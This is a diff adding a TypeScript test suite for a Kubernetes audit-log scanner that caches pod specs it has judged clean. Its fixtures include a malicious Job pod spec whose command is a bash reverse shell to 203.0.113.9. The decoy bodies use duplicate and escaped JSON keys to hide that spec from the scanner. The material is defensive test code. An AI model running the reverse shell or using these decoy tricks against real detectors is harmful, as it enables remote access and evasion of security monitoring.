@@ -1,0 +1,105 @@
+// A scan remembers job-write bodies judged clean by the text of what the judgement reads (kind,
+// apiVersion, pod spec) and does not parse a record whose body matches one again. These tests hold it
+// to that: repeats are counted, changes are judged, and no decoy in the text (duplicate or escaped
+// keys, a pod spec at the other kind's path, a hit that tuning hid) passes for a remembered body.
+import assert from 'node:assert/strict';
+import { afterEach, describe, test } from 'node:test';
+import { DEFAULT_CONFIG } from '../src/index.js';
+import { scan } from './fixtures/audit/canonical.ts';
+
+const CLEAN_POD_SPEC = JSON.stringify({ containers: [{ name: 'report', image: 'registry.example.com/acme/reporter:2.1', command: ['/app/run'] }], restartPolicy: 'OnFailure' });
+const EVIL_POD_SPEC = JSON.stringify({ containers: [{ name: 'report', image: 'registry.example.com/acme/reporter:2.1', command: ['/bin/sh', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'] }], restartPolicy: 'OnFailure' });
+
+const metadata = (name: string) => `"metadata":{"name":"${name}","namespace":"ci","labels":{"job-name":"${name}"}}`;
+const jobBody = (name: string, podSpec: string) => `{"kind":"Job","apiVersion":"batch/v1",${metadata(name)},"spec":{"template":{"metadata":{"labels":{"job-name":"${name}"}},"spec":${podSpec}}}}`;
+
+/** One kube-apiserver event line, its members in the API server's order; `body` is the request body's JSON text. */
+function record(auditID: string, body: string, { user = 'system:serviceaccount:ci:builder', resource = 'jobs', bodyMember = `"requestObject":${body}` } = {}): string {
+  return (
+    `{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"RequestResponse","auditID":"${auditID}","stage":"ResponseComplete",` +
+    `"requestURI":"/apis/batch/v1/namespaces/ci/${resource}","verb":"create","user":{"username":"${user}","groups":["system:authenticated"]},` +
+    `"sourceIPs":["10.1.2.3"],"userAgent":"kube-controller-manager/v1.30.1","objectRef":{"resource":"${resource}","namespace":"ci","apiGroup":"batch","apiVersion":"v1"},` +
+    `"responseStatus":{"metadata":{},"code":201},${bodyMember},"stageTimestamp":"2026-03-02T10:00:00.100000Z"}`
+  );
+}
+
+/** A log whose first two requests carry the clean pod spec (the second is the one remembered), then `lines`. */
+const afterCleanJobs = (...lines: string[]) => [record('clean-1', jobBody('report-1', CLEAN_POD_SPEC)), record('clean-2', jobBody('report-2', CLEAN_POD_SPEC)), ...lines].join('\n') + '\n';
+const matchedIDs = (result: { matches: Array<{ auditID: string | null }> }) => result.matches.map((match) => match.auditID);
+
+describe('a pod spec judged clean is remembered by its text', () => {
+  test('the Jobs of a CronJob repeat one pod spec: each is counted as a job write, and a changed spec is judged', async () => {
+    const result = await scan(afterCleanJobs(record('clean-3', jobBody('report-3', CLEAN_POD_SPEC)), record('evil', jobBody('report-4', EVIL_POD_SPEC))));
+    assert.deepEqual(matchedIDs(result), ['evil']);
+    assert.equal(result.summary.jobWrites, 4);
+    assert.equal(result.summary.events, 4);
+  });
+
+  describe('spying on JSON.parse', () => {
+    const parse = JSON.parse;
+    afterEach(() => {
+      JSON.parse = parse;
+    });
+
+    test('a record whose body repeats a remembered clean one is not parsed', async () => {
+      const parsed: string[] = [];
+      JSON.parse = ((text: string, reviver?: Parameters<typeof parse>[1]) => {
+        const id = /"auditID":"([^"]+)"/.exec(text)?.[1];
+        if (id) parsed.push(id);
+        return parse(text, reviver);
+      }) as typeof JSON.parse;
+      await scan(afterCleanJobs(record('clean-3', jobBody('report-3', CLEAN_POD_SPEC))));
+      assert.deepEqual(parsed, ['clean-1', 'clean-2']);
+    });
+  });
+
+  test('the pod spec of another kind is another body: a CronJob is judged at its own template', async () => {
+    const cronJob = `{"kind":"CronJob","apiVersion":"batch/v1",${metadata('nightly')},"spec":{"schedule":"0 2 * * *","jobTemplate":{"spec":{"template":{"spec":${CLEAN_POD_SPEC}}}}}}`;
+    const result = await scan(afterCleanJobs(record('cron', cronJob, { resource: 'cronjobs' })));
+    assert.equal(result.summary.jobWrites, 3);
+    assert.deepEqual(matchedIDs(result), []);
+  });
+});
+
+describe('decoys that must not pass for a remembered clean body', () => {
+  const cases: Record<string, string> = {
+    'a second "spec" in the body (JSON.parse keeps the last)': record(
+      'evil',
+      `{"kind":"Job","apiVersion":"batch/v1",${metadata('x')},"spec":{"template":{"spec":${CLEAN_POD_SPEC}}},"spec":{"template":{"spec":${EVIL_POD_SPEC}}}}`,
+    ),
+    'a second pod "spec" in the template': record('evil', `{"kind":"Job","apiVersion":"batch/v1",${metadata('x')},"spec":{"template":{"spec":${CLEAN_POD_SPEC},"spec":${EVIL_POD_SPEC}}}}`),
+    'a second "requestObject" in the record': record('evil', '', { bodyMember: `"requestObject":${jobBody('x', CLEAN_POD_SPEC)},"requestObject":${jobBody('x', EVIL_POD_SPEC)}` }),
+    'an escaped key that spells "spec"': record(
+      'evil',
+      `{"kind":"Job","apiVersion":"batch/v1",${metadata('x')},"spec":{"template":{"spec":${CLEAN_POD_SPEC}}},"sp\\u0065c":{"template":{"spec":${EVIL_POD_SPEC}}}}`,
+    ),
+  };
+  for (const [name, decoy] of Object.entries(cases)) {
+    test(name, async () => {
+      JSON.parse(decoy); // the decoy is valid JSON: it is the scanner that must see through it
+      assert.deepEqual(matchedIDs(await scan(afterCleanJobs(decoy))), ['evil']);
+    });
+  }
+
+  const templates = {
+    Job: (podSpec: string) => `"template":{"spec":${podSpec}}`,
+    CronJob: (podSpec: string) => `"jobTemplate":{"spec":{"template":{"spec":${podSpec}}}}`,
+  };
+  for (const [kind, other] of [['Job', 'CronJob'], ['CronJob', 'Job']] as const) {
+    test(`a ${kind} with pod specs at both kinds' paths: the one its kind picks is judged`, async () => {
+      // A body with its pod spec at the other kind's path has no template: clean, and remembered so.
+      const body = (name: string, spec: string) => `{"kind":"${kind}","apiVersion":"batch/v1",${metadata(name)},"spec":{${spec}}}`;
+      const misplaced = ['a', 'b', 'c'].map((name) => record(`misplaced-${name}`, body(name, templates[other](CLEAN_POD_SPEC))));
+      const decoy = record('evil', body('x', `${templates[other](CLEAN_POD_SPEC)},${templates[kind](EVIL_POD_SPEC)}`));
+      const result = await scan([...misplaced, decoy].join('\n'));
+      assert.deepEqual(matchedIDs(result), ['evil']);
+      assert.equal(result.summary.jobWrites, 4);
+    });
+  }
+
+  test('a pod spec whose hits tuning removed for one user is not remembered as clean for the next', async () => {
+    const config = { ...DEFAULT_CONFIG, ignore: [{ users: ['system:serviceaccount:ci:builder'] }] };
+    const log = afterCleanJobs(record('ignored', jobBody('x', EVIL_POD_SPEC)), record('evil', jobBody('y', EVIL_POD_SPEC), { user: 'mallory@example.com' }));
+    assert.deepEqual(matchedIDs(await scan(log, { config })), ['evil']);
+  });
+});
